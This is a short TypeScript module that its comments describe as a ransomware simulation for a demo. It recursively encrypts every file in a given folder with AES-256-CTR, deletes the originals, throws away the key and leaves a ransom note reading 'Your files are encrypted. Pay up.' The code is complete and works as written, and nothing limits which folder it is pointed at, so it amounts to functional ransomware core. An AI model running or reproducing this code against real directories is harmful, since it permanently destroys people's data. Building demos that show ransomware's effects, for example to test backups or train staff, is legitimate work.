/**
 * What ransomware does to a folder: every file is replaced by its ciphertext under another name, and a note is left.
 * The key is thrown away. Part of the demo's disaster; it touches nothing but the folder it is given.
 */
import { createCipheriv, randomBytes } from 'node:crypto';
import fs from 'node:fs/promises';
import path from 'node:path';

/** False where the file has gone meanwhile: the shop is in use. */
async function encryptFile(file: string, key: Buffer): Promise<boolean> {
  const iv = randomBytes(16);
  const cipher = createCipheriv('aes-256-ctr', key, iv);
  try {
    const sealed = Buffer.concat([iv, cipher.update(await fs.readFile(file)), cipher.final()]);
    await fs.writeFile(`${file}.locked`, sealed);
    await fs.rm(file);
    return true;
  } catch (error) {
    if ((error as NodeJS.ErrnoException).code === 'ENOENT') return false;
    throw error;
  }
}

/** Resolves to the number of files that it made unreadable. */
export async function encryptFolder(folder: string): Promise<number> {
  const key = randomBytes(32);
  let count = 0;
  const entries = await fs.readdir(folder, { recursive: true, withFileTypes: true });
  for (const entry of entries.filter((found) => found.isFile())) {
    if (await encryptFile(path.join(entry.parentPath, entry.name), key)) count += 1;
  }
  await fs.writeFile(path.join(folder, 'READ_ME.txt'), 'Your files are encrypted. Pay up.\n');
  return count;
}
